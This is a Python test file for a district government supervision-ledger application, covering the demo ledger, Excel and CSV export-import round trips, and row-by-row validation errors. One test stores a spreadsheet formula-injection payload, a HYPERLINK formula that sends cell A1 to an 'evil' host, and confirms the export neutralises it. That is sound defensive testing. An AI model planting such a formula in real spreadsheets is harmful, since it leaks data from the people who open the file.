"""The demo ledger and the Excel round trip: every light colour in the demo; export → import into an empty
database gives the same ledger, field by field; a malformed workbook is refused row by row, nothing written."""

import io
from contextlib import contextmanager
from datetime import datetime

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from govgrid.db.engine import make_engine, make_session_factory
from govgrid.db.ledger_models import LedgerInvestment, LedgerItem, LedgerMilestone, ProgressReport
from govgrid.db.migrate import upgrade
from govgrid.db.models import OrgUnit
from govgrid.domain.worktime import CHINA
from govgrid.services.demo.ledger import build_demo_ledger
from govgrid.services.ledger.export import export_csv, export_xlsx
from govgrid.services.ledger.importing import LedgerRejected, import_ledger
from govgrid.services.ledger.views import LedgerFilter
from tests.catalogs import CATALOGS
from tests.databases import fresh_database
from tests.factories import add_demo_ledger_units, build_district
from tests.services.cases.test_cases import who
from tests.services.ledger.test_ledgers import RULES


@contextmanager
def other_database(tmp_path):
    (tmp_path / "other").mkdir()
    with fresh_database(tmp_path / "other") as url:
        engine = make_engine(url)
        upgrade(engine)
        with make_session_factory(engine)() as fresh:
            yield fresh
        engine.dispose()


NOW = datetime(2026, 11, 22, 10, tzinfo=CHINA)
ITEM_FIELDS = [
    c.key for c in LedgerItem.__table__.columns if c.key not in ("id", "parent_id", "campaign_id", "version")
]


@pytest.fixture
def own(empty_sessions):
    """A test district of its own, for tests that count and move whole ledgers."""
    with empty_sessions() as s:
        build_district(s)
        s.commit()
        yield s


def demo(session, now=NOW):
    add_demo_ledger_units(session)
    return build_demo_ledger(session, rules=RULES, source=CATALOGS.source, area_code="370102", now=now)


@pytest.mark.parametrize("now", [NOW, datetime(2026, 5, 11, 10, tzinfo=CHINA)])
def test_the_demo_ledger_shows_every_light_colour_on_the_day_it_is_built(own, now):
    built = demo(own, now)
    assert built.campaigns == 4 and built.reports > 300
    assert set(built.lights) == {"green", "blue", "yellow", "red", "grey"}, built.lights
    rungs = own.scalars(
        select(LedgerItem.rung).where(LedgerItem.light == "red", LedgerItem.kind.in_(("task", "project")))
    ).all()
    assert rungs and all(r is not None for r in rungs)  # the ladder has already urged every red task


def test_the_demo_parent_progress_is_the_weighted_sum_of_its_measures(own):
    demo(own)
    campaign = own.scalar(select(LedgerItem).where(LedgerItem.number == "LX-JD"))
    measures = own.scalars(select(LedgerItem).where(LedgerItem.parent_id == campaign.id)).all()
    assert len(measures) == 9 and sum(m.weight for m in measures) == 100
    assert campaign.progress == pytest.approx(sum(m.progress * m.weight for m in measures) / 100)


def snapshot(session):
    """The whole ledger keyed by path, every stored field, with its reports, milestones and investment."""
    items = {i.id: i for i in session.scalars(select(LedgerItem))}
    path = {}
    for item in sorted(items.values(), key=lambda i: i.id):
        path[item.id] = f"{path[item.parent_id]}/{item.number}" if item.parent_id else item.number
    units = {k: v for k, v in session.execute(select(OrgUnit.id, OrgUnit.code))}
    rows = {}
    for item in items.values():
        row = {f: getattr(item, f) for f in ITEM_FIELDS}
        row["lead_unit_id"] = units.get(item.lead_unit_id)
        row["co_unit_ids"] = sorted(units[u] for u in item.co_unit_ids)
        row["progress"] = round(item.progress, 6)
        rows[path[item.id]] = row
    milestones = {m.id: m for m in session.scalars(select(LedgerMilestone))}
    reports = sorted(
        (
            path[r.item_id],
            r.kind,
            r.reported_at,
            r.reported_by,
            r.value_reached,
            r.narrative,
            r.problems,
            r.next_steps,
            r.funds_used,
            milestones[r.milestone_id].label if r.milestone_id else None,
        )
        for r in session.scalars(select(ProgressReport))
    )
    nodes = sorted((path[m.item_id], m.label, m.kind, m.due_at, m.done_at) for m in milestones.values())
    money = sorted(
        (path[i.item_id], i.month, i.planned, i.completed) for i in session.scalars(select(LedgerInvestment))
    )
    return rows, reports, nodes, money


def test_exporting_the_demo_ledger_and_importing_it_into_an_empty_database_gives_the_same_ledger(
    own, tmp_path
):
    demo(own)
    # a project with a schedule and investment, so those sheets travel too
    project = own.scalar(select(LedgerItem).where(LedgerItem.kind == "project"))
    own.add(
        LedgerInvestment(
            district_code=project.district_code,
            item_id=project.id,
            month="2026-10",
            planned=1200.0,
            completed=830.5,
        )
    )
    project.ambassador = "刘洋"
    own.commit()
    before = snapshot(own)
    workbook = export_xlsx(own, actor=who(own, "supervisor"), wanted=LedgerFilter(), now=NOW)
    with other_database(tmp_path) as fresh:
        build_district(fresh)
        add_demo_ledger_units(fresh)
        result = import_ledger(
            fresh,
            actor=who(fresh, "supervisor"),
            rules=RULES,
            data=workbook,
            filename="督办台账.xlsx",
            area_code="370102",
            now=NOW,
        )
        assert sorted(result.campaigns) == ["DS-HJ", "LX-JD", "SZ-JT", "ZQ-LD"]
        after = snapshot(fresh)
    assert len(after[0]) == len(before[0]) > 90
    for key, row in before[0].items():
        assert after[0][key] == row, key
    assert after[1:] == before[1:]


def test_the_export_follows_the_filter_on_screen_with_the_light_colours(own):
    demo(own)
    data = export_xlsx(own, actor=who(own, "supervisor"), wanted=LedgerFilter(light="red"), now=NOW)
    sheet = load_workbook(io.BytesIO(data))["督办台账"]
    headers = [c.value for c in sheet[2]]
    light_col = headers.index("预警") + 1
    kinds = [sheet.cell(r, headers.index("层级") + 1).value for r in range(3, sheet.max_row + 1)]
    lights = {sheet.cell(r, light_col).value for r in range(3, sheet.max_row + 1)}
    assert lights == {"红灯"} and "任务" in kinds
    assert sheet.cell(3, light_col).fill.fgColor.rgb == "FFF5222D"
    assert sheet.merged_cells.ranges  # 上级序号 merged over siblings, as offices lay it out
    text = export_csv(own, actor=who(own, "supervisor"), wanted=LedgerFilter(light="red")).decode("utf-8-sig")
    assert text.splitlines()[0].startswith("序号,上级序号,层级,工作内容") and "红灯" in text


def office_workbook(rows, headers=None):
    """A ledger the way an office keeps it: a title row, a merged measure cell, a blank row."""
    headers = headers or [
        "序号",
        "上级序号",
        "层级",
        "工作内容",
        "指标名称",
        "目标值",
        "计量单位",
        "牵头单位",
        "配合单位",
        "完成时限",
    ]
    book = Workbook()
    sheet = book.active
    sheet.title = "督办台账"
    sheet.append(["2026年重点工作督办台账"])
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def good_rows(campaign="ZX"):
    rows = [
        ["ZX", None, "行动", "城市更新专项行动", None, None, None, "历下区人民政府", None, None],
        ["一", "ZX", "措施", "老旧小区改造", None, None, None, "历下区住房和城乡建设局", None, None],
        [
            "1",
            "ZX/一",
            "任务",
            "改造老旧小区",
            "改造老旧小区",
            "38",
            "个",
            "历下区住房和城乡建设局",
            "历下区城市管理局",
            "2026年12月31日",
        ],
        [None, None, None, None, None, None, None, None, None, None],
        [
            "2",
            "ZX/一",
            "任务",
            "新增停车泊位",
            "停车泊位",
            "1.2万",
            "个",
            "LX-JT",
            None,
            46387,
        ],  # an Excel serial date
    ]
    return [
        [
            campaign
            if cell == "ZX"
            else cell.replace("ZX/", campaign + "/")
            if isinstance(cell, str)
            else cell
            for cell in row
        ]
        for row in rows
    ]


def test_an_office_workbook_with_a_title_row_blank_rows_text_and_serial_dates_and_wan_imports(
    session, district
):
    result = import_ledger(
        session,
        actor=who(session, "supervisor"),
        rules=RULES,
        data=office_workbook(good_rows("ZX-OK")),
        filename="台账.xlsx",
        area_code="370102",
        now=NOW,
    )
    assert result.items == 4
    ok = session.scalar(select(LedgerItem).where(LedgerItem.number == "ZX-OK"))
    tasks = {
        i.number: i
        for i in session.scalars(
            select(LedgerItem).where(LedgerItem.campaign_id == ok.id, LedgerItem.kind == "task")
        )
    }
    assert (
        tasks["1"].target_value == 38
        and tasks["1"].deadline_at.astimezone(CHINA).date().isoformat() == "2026-12-31"
    )
    assert (tasks["2"].target_value, tasks["2"].target_unit) == (1.2, "万个")
    assert tasks["2"].deadline_at.astimezone(CHINA).date().isoformat() == "2026-12-31"


def test_a_malformed_workbook_gets_a_row_by_row_report_and_the_database_is_unchanged(session, district):
    rows = good_rows("ZX-BAD")
    rows[2][9] = "年底前"  # a date that is not a date
    rows[2][7] = "区发改局"  # an owner not in the unit list
    rows[4][5] = "约三成"  # a vague target
    count = session.scalar(select(func.count()).select_from(LedgerItem))
    with pytest.raises(LedgerRejected) as rejected:
        import_ledger(
            session,
            actor=who(session, "supervisor"),
            rules=RULES,
            data=office_workbook(rows),
            filename="台账.xlsx",
            area_code="370102",
            now=NOW,
        )
    found = {(e.row, e.column) for e in rejected.value.errors}
    assert found == {(5, "完成时限"), (5, "牵头单位"), (7, "目标值")}, rejected.value.errors
    messages = " ".join(str(e) for e in rejected.value.errors)
    assert "年底前" in messages and "区发改局" in messages and "约三成" in messages
    assert session.scalar(select(func.count()).select_from(LedgerItem)) == count


def test_a_workbook_missing_a_required_column_is_refused_naming_it(session, district):
    headers = [
        "序号",
        "上级序号",
        "层级",
        "工作内容",
        "指标名称",
        "目标值",
        "计量单位",
        "牵头单位",
        "配合单位",
        "备注",
    ]
    with pytest.raises(LedgerRejected) as rejected:
        import_ledger(
            session,
            actor=who(session, "supervisor"),
            rules=RULES,
            data=office_workbook(good_rows("ZX-COL"), headers),
            filename="台账.xlsx",
            area_code="370102",
            now=NOW,
        )
    assert [(e.row, e.column, e.message) for e in rejected.value.errors] == [
        (2, "完成时限", "缺少必填列“完成时限”")
    ]
    assert (
        session.scalar(select(func.count()).select_from(LedgerItem).where(LedgerItem.number == "ZX-COL")) == 0
    )


def test_a_csv_saved_by_excel_in_gbk_imports_too(session, district):
    lines = [
        "序号,上级序号,层级,工作内容,牵头单位,完成时限",
        "ZX,,行动,城市更新,,",
        "1,ZX,任务,拆违,历下区城市管理局,2026/12/31",
    ]
    result = import_ledger(
        session,
        actor=who(session, "supervisor"),
        rules=RULES,
        data="\r\n".join(lines).encode("gb18030"),
        filename="台账.csv",
        area_code="370102",
        now=NOW,
    )
    assert result.items == 2


def test_only_a_supervisor_imports_a_ledger(session, district):
    from govgrid.domain.errors import Forbidden

    with pytest.raises(Forbidden):
        import_ledger(
            session,
            actor=who(session, "dept_officer"),
            rules=RULES,
            data=office_workbook(good_rows()),
            filename="台账.xlsx",
            area_code="370102",
            now=NOW,
        )


def test_text_that_looks_like_a_formula_stays_text_in_the_export_and_comes_back_unchanged(own, tmp_path):
    demo(own)
    task = own.scalar(
        select(LedgerItem).where(LedgerItem.kind == "task", LedgerItem.lead_unit_id.is_not(None))
    )
    own.add(
        ProgressReport(
            district_code=task.district_code,
            item_id=task.id,
            kind="progress",
            reported_at=NOW,
            reported_by="dept_officer",
            value_reached=1,
            narrative='=HYPERLINK("http://evil/?"&A1,"点击")',
        )
    )
    task.consequence = "=1+1"
    own.commit()
    data = export_xlsx(
        own, actor=who(own, "supervisor"), wanted=LedgerFilter(campaign_id=task.campaign_id), now=NOW
    )
    book = load_workbook(io.BytesIO(data))
    cells = [c for row in book["进展记录"].iter_rows() for c in row if str(c.value).startswith("=HYPERLINK")]
    assert cells and all(c.data_type == "s" for c in cells)
    text = export_csv(own, actor=who(own, "supervisor"), wanted=LedgerFilter(campaign_id=task.campaign_id))
    assert "'=1+1" in text.decode("utf-8-sig")
    with other_database(tmp_path) as fresh:
        build_district(fresh)
        add_demo_ledger_units(fresh)
        import_ledger(
            fresh,
            actor=who(fresh, "supervisor"),
            rules=RULES,
            data=data,
            filename="a.xlsx",
            area_code="370102",
            now=NOW,
        )
        assert fresh.scalar(
            select(ProgressReport.id).where(ProgressReport.narrative.startswith("=HYPERLINK"))
        )
        assert fresh.scalar(select(LedgerItem.id).where(LedgerItem.consequence == "=1+1"))


def test_bad_cells_the_review_found_are_each_reported(session, district):
    book = Workbook()
    items = book.active
    items.title = "督办台账"
    items.append(
        [
            "序号",
            "上级序号",
            "层级",
            "工作内容",
            "指标名称",
            "目标值",
            "指标方向",
            "牵头单位",
            "完成时限",
            "权重",
        ]
    )
    items.append(["ZX-REV", None, "行动", "复核", None, None, None, None, None, None])
    items.append(["1", "ZX-REV", "项目", "无人牵头的项目", None, None, None, None, "2026-12-31", None])
    items.append(
        ["2", "ZX-REV", "任务", "压减", "能耗", "30", "下降", "历下区城市管理局", "2026-12-31", None]
    )
    items.append(["3", "ZX-REV", "任务", "x" * 10, None, None, None, "历下区城市管理局", "2026-12-31", None])
    items[5][0].value = "超长序号" * 10
    reports = book.create_sheet("进展记录")
    reports.append(["事项序号", "填报时间", "完成值", "进展情况"])
    reports.append(["ZX-REV/2", "2031-01-01 10:00", "3-5", "未来的填报"])
    reports.append(["ZX-REV/2", datetime(2026, 5, 1, 10), datetime(2026, 1, 1), "日期格式的完成值"])
    money = book.create_sheet("投资计划")
    money.append(["事项序号", "月份", "计划投资（万元）"])
    money.append(["ZX-REV/1", "2026-03", 100])
    money.append(["ZX-REV/1", "2026-3", -5])
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(LedgerRejected) as rejected:
        import_ledger(
            session,
            actor=who(session, "supervisor"),
            rules=RULES,
            data=out.getvalue(),
            filename="复核.xlsx",
            area_code="370102",
            now=NOW,
        )
    found = {(e.sheet, e.row, e.column) for e in rejected.value.errors}
    assert {
        ("督办台账", 3, "牵头单位"),
        ("督办台账", 4, "目标值"),
        ("督办台账", 5, "序号"),
        ("进展记录", 2, "完成值"),
        ("进展记录", 3, "完成值"),
        ("投资计划", 3, "计划投资（万元）"),
    } <= found, rejected.value.errors
    assert (
        session.scalar(select(func.count()).select_from(LedgerItem).where(LedgerItem.number == "ZX-REV")) == 0
    )


def test_a_report_from_the_future_and_a_repeated_month_are_refused(session, district):
    book = Workbook()
    items = book.active
    items.title = "督办台账"
    items.append(["序号", "上级序号", "层级", "工作内容", "牵头单位", "完成时限"])
    items.append(["ZX-FUT", None, "行动", "未来", None, None])
    items.append(["1", "ZX-FUT", "项目", "项目", "历下区城市管理局", "2026-12-31"])
    reports = book.create_sheet("进展记录")
    reports.append(["事项序号", "填报时间", "完成值", "进展情况"])
    reports.append(["ZX-FUT/1", "2031-01-01 10:00", 3, "未来的填报"])
    money = book.create_sheet("投资计划")
    money.append(["事项序号", "月份", "计划投资（万元）"])
    money.append(["ZX-FUT/1", "2026-03", 100])
    money.append(["ZX-FUT/1", "2026-3", 50])
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(LedgerRejected) as rejected:
        import_ledger(
            session,
            actor=who(session, "supervisor"),
            rules=RULES,
            data=out.getvalue(),
            filename="未来.xlsx",
            area_code="370102",
            now=NOW,
        )
    assert {(e.sheet, e.row, e.column) for e in rejected.value.errors} == {
        ("进展记录", 2, "填报时间"),
        ("投资计划", 3, "月份"),
    }


def test_a_file_over_the_size_limit_is_refused_not_cut(session, district):
    from govgrid.services.ledger.importing import MAX_BYTES

    data = ("序号,层级,工作内容,牵头单位,完成时限\n" + "1,任务,x,y,2026-12-31\n" * (MAX_BYTES // 20)).encode()
    with pytest.raises(LedgerRejected, match="MB"):
        import_ledger(
            session,
            actor=who(session, "supervisor"),
            rules=RULES,
            data=data,
            filename="big.csv",
            area_code="370102",
            now=NOW,
        )


def test_a_streets_ledger_cannot_task_a_district_department(session, district):
    lines = [
        "序号,上级序号,层级,工作内容,牵头单位,完成时限",
        "ZX-ST,,行动,街道台账,,",
        "1,ZX-ST,任务,清运,历下区城市管理局,2026-12-31",
    ]
    with pytest.raises(LedgerRejected) as rejected:
        import_ledger(
            session,
            actor=who(session, "admin"),
            rules=RULES,
            data="\n".join(lines).encode(),
            filename="街道.csv",
            area_code="370102001",
            now=NOW,
        )
    assert [(e.row, e.column) for e in rejected.value.errors] == [(3, "牵头单位")]
    assert "不在本台账的区域" in rejected.value.errors[0].message
